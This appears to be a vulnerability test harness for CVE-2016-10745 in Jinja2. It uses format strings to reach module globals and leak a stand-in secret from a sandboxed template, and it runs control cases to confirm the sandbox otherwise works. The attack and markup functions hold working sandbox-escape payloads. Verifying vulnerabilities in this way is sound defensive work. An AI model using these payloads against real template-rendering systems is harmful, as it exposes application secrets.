# /// vertice-probe
# id = "PYSEC-2019-220"
# aliases = ["CVE-2016-10745", "GHSA-hj2j-77xm-mc5v"]
# package = "jinja2"
# summary = """\
#   The sandbox does not look into str.format, so a template reads attributes that the sandbox forbids and leaks the \
#   program's secrets."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:N" }]
# cwe = ["CWE-134", "CWE-693"]
# kind = "sandbox-escape"
# symbols = ["jinja2.sandbox.SandboxedEnvironment", "jinja2.sandbox.ImmutableSandboxedEnvironment"]
#
# [[affected]]
# package = "jinja2"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "2.8.1" }] }]
#
# [cases]
# attack = "a format string walks from an object to the globals of its module"
# [cases.variants]
# markup = "the same with a keyword argument through the format of escaped text"
# [cases.controls]
# formatting = "an ordinary format string works, a forbidden attribute in the template is refused"
#
# [test]
# vulnerable = "2.8"
# fixed = "2.8.1"
# with = ["markupsafe<2.1"]
# ///
"""CVE-2016-10745: sandbox escape through str.format."""

import collections
import collections.abc
import json
import re
import sys

for _name in ("Mapping", "MutableMapping", "MutableSet", "MutableSequence"):
    if not hasattr(collections, _name):  # Jinja 2.8 wants them where they were before Python 3.10
        setattr(collections, _name, getattr(collections.abc, _name))

_compile = re.compile


def compile_as_before(pattern, *flags):
    """Jinja 2.8 sets the flag u at the end of patterns, which is an error since Python 3.11 (and does nothing)."""
    if isinstance(pattern, str) and pattern.endswith("(?u)"):
        pattern = pattern[:-4]
    return _compile(pattern, *flags)


re.compile = compile_as_before

SECRET = "secret-of-the-program"


class User:
    def __init__(self, name):
        self.name = name


def render(text):
    from jinja2.sandbox import SandboxedEnvironment

    return SandboxedEnvironment().from_string(text).render(user=User("alice"))


def judge(text):
    from jinja2.exceptions import SecurityError

    if render("{{ '{0}'.format(7) }}") != "7":
        raise RuntimeError("format does not work in the sandbox")
    try:
        output = render(text)
    except SecurityError as error:
        return "blocked", "SecurityError: %s" % error
    if SECRET in output:
        return "exploited", "the template printed a secret of the program"
    raise RuntimeError("neither leaked nor refused: %r" % output)


def attack():
    return judge("{{ 'hello {0.__init__.__globals__[SECRET]}'.format(user) }}")


def markup():
    return judge("{{ ('<b>{u.__class__.__init__.__globals__[SECRET]}</b>'|escape).format(u=user) }}")


def formatting():
    from jinja2.exceptions import SecurityError

    output = render("{{ 'hello {0.name}, {n:03d} {x[a]}'.format(user, n=7, x={'a': 1}) }}")
    try:
        render("{{ user.__init__.__globals__ }}")
    except SecurityError:
        return ("works" if output == "hello alice, 007 1" else "broken"), output
    return "broken", "a forbidden attribute was not refused"


CASES = {"attack": attack, "markup": markup, "formatting": formatting}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
